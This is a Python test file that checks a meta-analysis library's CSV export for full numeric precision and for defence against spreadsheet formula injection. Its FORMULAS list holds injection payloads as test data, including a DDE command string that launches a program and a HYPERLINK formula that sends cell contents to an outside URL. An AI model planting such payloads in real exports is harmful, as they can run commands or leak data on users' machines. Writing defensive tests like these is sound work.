"""CSV export: full precision, and no cell that a spreadsheet would compute."""

from __future__ import annotations

import csv
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

import comorbid as cb

FORMULAS = [
    *("=1+1", "+1+1", "-1+1", "@SUM(A1)", '=HYPERLINK("http://x.org?"&A1)', "=cmd|' /C calc'!A0"),
    *("\t=1", "\r=1", "\n=1", "  =1", "\N{NO-BREAK SPACE}=1", "\N{FULLWIDTH EQUALS SIGN}1", "\tx"),
]
HARMLESS = ["Smith 2001", "a=b", "O'Brien", "-0.5", "+3", "1e-5", "", "'=1", "−1", "a,b", 'a "b"']


def written(result: object, path: Path) -> list[list[str]]:
    cb.to_csv(result, path=path)  # type: ignore[arg-type]
    with path.open(encoding="utf-8", newline="") as file:
        return list(csv.reader(file))


@pytest.mark.parametrize("cell", FORMULAS)
def test_a_formula_becomes_text(cell: str, tmp_path: Path) -> None:
    frame = pd.DataFrame({cell: [cell, "x"], "n": [1, 2]}, index=pd.Index([cell, "y"], name=cell))
    assert written(frame, tmp_path / "t.csv") == [
        [f"'{cell}", f"'{cell}", "n"],
        [f"'{cell}", f"'{cell}", "1"],
        ["y", "x", "2"],
    ]


@pytest.mark.parametrize("cell", HARMLESS)
def test_other_text_stays(cell: str, tmp_path: Path) -> None:
    assert written(pd.DataFrame({"a": [cell, "x"]}), tmp_path / "t.csv")[1] == [cell]


def test_numbers_keep_their_sign_and_every_digit(tmp_path: Path) -> None:
    numbers = [-0.1 - 0.2, 1e-300, np.nan, -12345678.901234567]
    rows = written(pd.DataFrame({"x": numbers}), tmp_path / "t.csv")
    assert [float(cell) if cell else None for (cell,) in rows[1:]] == [
        numbers[0],
        numbers[1],
        None,
        numbers[3],
    ]


def test_results_and_studies(tmp_path: Path) -> None:
    studies = cb.datasets.headache_back_pain()
    effects = cb.Effects(yi=[0.5, 0.9, 0.1], vi=[0.03, 0.08, 0.1], labels=["=a", "b", "c"])
    refits = cb.leave_one_out(cb.pool(effects))
    rows = written(refits, tmp_path / "refits.csv")
    assert [row[0] for row in rows] == ["label", "'=a", "b", "c"]
    assert float(rows[1][1]) == refits.to_frame()["estimate"].iloc[0]
    rows = written(studies, tmp_path / "studies.csv")
    assert rows[0] == list(studies.frame.columns)
    assert len(rows) == 14


def test_no_formula_in_the_template_of_a_review(tmp_path: Path) -> None:
    import datetime

    from comorbid.starter import write_review

    write_review(tmp_path / "a-review", date=datetime.date(2026, 1, 31))
    with (tmp_path / "a-review" / "studies.csv").open(encoding="utf-8", newline="") as file:
        cells = [cell for row in csv.reader(file) for cell in row]
    assert not [cell for cell in cells if cell[:1] in "=+-@" and cell]


def test_what_has_no_table(tmp_path: Path) -> None:
    with pytest.raises(cb.DataError, match="a float has no table; give a result"):
        cb.to_csv(1.5, path=tmp_path / "t.csv")  # type: ignore[arg-type]
